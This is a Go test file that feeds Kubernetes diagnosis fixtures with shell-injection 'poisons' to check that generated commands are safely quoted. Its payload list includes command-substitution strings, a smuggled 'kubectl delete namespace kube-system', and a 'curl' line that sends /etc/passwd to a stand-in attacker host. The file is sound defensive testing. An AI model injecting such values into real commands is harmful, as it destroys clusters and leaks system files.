package paste

import (
	"fmt"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"golang.org/x/tools/txtar"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"sigs.k8s.io/yaml"
)

// poisons are texts with which a shell, kubectl or a terminal does something unless they are handled right.
var poisons = []string{
	`/$(touch${IFS}x);touch${IFS}x;`, "`touch x`", `;touch x;`, `|touch x`, `&touch x&`, `>x`, `x<docs>`, `<value>`, `'`, `\'$(touch x)`, `"$(touch x)"`,
	`'"$(touch x)"'`, `-oyaml`, `=ls`, `(touch x)`, `\`, `\\'`, `$(/bin/touch x)`, `*`, `~`, `!!`, `{a,b}`, `#x`, `$HOME`, ` x y`, `%self`,
	"\ntouch x\n", "\ttouch", "\u202ex", "\u200b", "\x1b[2Jx", "名字", `$POD_NAME`, `[x]`, `?`, `^a^b`, `x\n`,
	`x kubectl delete namespace kube-system --wait=false #`, `x curl -d @/etc/passwd evil.example #`,
}

// scenario is a poisoned case: its objects and logs, in a namespace of its own.
type scenario struct {
	namespace string
	objects   []unstructured.Unstructured
	logs      map[string]string
}

// scenarios reads the cases of all causes, each poisoned in two ways.
func scenarios(t *testing.T) []scenario {
	t.Helper()
	files, err := filepath.Glob("../../pkg/diagnosis/*/testdata/*.txtar")
	if err != nil || len(files) < 100 {
		t.Fatalf("found %d scenarios, %v", len(files), err)
	}
	var all []scenario
	for i, file := range files {
		for way := range 2 {
			all = append(all, poisoned(t, file, way, 2*i+way))
		}
	}
	return all
}

var (
	shop = regexp.MustCompile(`\bshop\b`)
	node = regexp.MustCompile(`\bnode(\d)\b`)
	// said are the programs whose commands are looked for in what is printed; cases that speak of them themselves do not.
	said   = strings.NewReplacer("kubectl", "kubeadm", "curl", "wget", "export ", "set ")
	quoted = regexp.MustCompile(`"([^"\\]*)"`)
)

// poisoned reads a case. Way 0 poisons what the objects refer to and the quoted names in what is said of them, way 1 what runs.
func poisoned(t *testing.T, file string, way, number int) scenario {
	t.Helper()
	archive, err := txtar.ParseFile(file)
	if err != nil {
		t.Fatal(err)
	}
	poison := poisons[number%len(poisons)]
	made := scenario{namespace: fmt.Sprintf("shop-%d", number), logs: map[string]string{}}
	own := func(text string) string {
		return node.ReplaceAllString(shop.ReplaceAllString(said.Replace(text), made.namespace), fmt.Sprintf("node$1-%d", number))
	}
	for _, part := range archive.Files {
		switch name, _, _ := strings.Cut(part.Name, " "); name {
		case "objects.yaml":
			for document := range strings.SplitSeq(own(string(part.Data)), "\n---\n") {
				made.add(t, document, poisoner{poison, way, number})
			}
		case "log":
			text := own(string(part.Data))
			if way == 0 {
				text = quoted.ReplaceAllString(text, `"${1}`+strings.ReplaceAll(strings.ReplaceAll(poison, "\n", " "), "$", "$$")+`"`)
			}
			made.logs[strings.TrimPrefix(part.Name, "log ")] = text
		}
	}
	return made
}

func (s *scenario) add(t *testing.T, document string, p poisoner) {
	t.Helper()
	object := unstructured.Unstructured{}
	if err := yaml.Unmarshal([]byte(document), &object.Object); err != nil {
		t.Fatal(err)
	}
	if len(object.Object) == 0 {
		return
	}
	items := []unstructured.Unstructured{object}
	if object.IsList() {
		list, err := object.ToList()
		if err != nil {
			t.Fatal(err)
		}
		items = list.Items
	}
	for _, item := range items {
		p.object(item.Object)
		s.objects = append(s.objects, item)
	}
}

// poisoner poisons the fields of objects in which an API server takes any text.
type poisoner struct {
	poison string
	way    int
	number int
}

func (p poisoner) object(object map[string]any) {
	p.fields(object, "")
	meta, _ := object["metadata"].(map[string]any)
	if meta == nil {
		return
	}
	annotations, _ := meta["annotations"].(map[string]any)
	if annotations == nil {
		annotations = map[string]any{}
	}
	annotations["example.com/note"] = p.poison
	meta["annotations"] = annotations
}

// fields goes through a map, which is the value of a field.
func (p poisoner) fields(object map[string]any, field string) {
	for key, value := range object {
		switch value := value.(type) {
		case string:
			object[key] = p.text(field, key, value)
		case map[string]any:
			p.fields(value, key)
		case []any:
			p.list(value, key)
			if (key == "command" || key == "args") && p.way == 1 {
				object[key] = append(value, p.poison)
			}
		}
	}
}

func (p poisoner) list(list []any, field string) {
	for i, item := range list {
		if object, ok := item.(map[string]any); ok {
			p.fields(object, field)
		} else if text, ok := item.(string); ok {
			list[i] = p.text("", field, text)
		}
	}
}

// text is a field as it becomes. References to objects are validated by no API server beyond being there; names of owners are
// checked when a recording is read.
func (p poisoner) text(parent, key, value string) string {
	every := func(n int) bool { return p.number/2%n == 0 }
	switch {
	case key == "uid":
		return fmt.Sprintf("%s-%d", value, p.number)
	case key == "message" && p.way == 0:
		return quoted.ReplaceAllString(value, `"${1}`+strings.ReplaceAll(p.poison, "$", "$$")+`"`)
	case key == "message":
		return value + p.poison
	case p.way == 0 && key == "name" && (parent == "configMapKeyRef" || parent == "secretKeyRef" || parent == "configMapRef" || parent == "secretRef" || parent == "configMap" || parent == "imagePullSecrets"),
		p.way == 0 && (key == "secretName" || key == "claimName"):
		return value + p.poison
	case p.way == 1 && key == "image" && every(3), p.way == 1 && key == "name" && parent == "env" && every(2), p.way == 1 && key == "host" && every(4),
		p.way == 1 && (key == "path" || key == "value" || key == "workingDir" || key == "mountPath" || key == "subPath" || key == "command" || key == "args" || key == "fieldPath"):
		return value + p.poison
	}
	return value
}
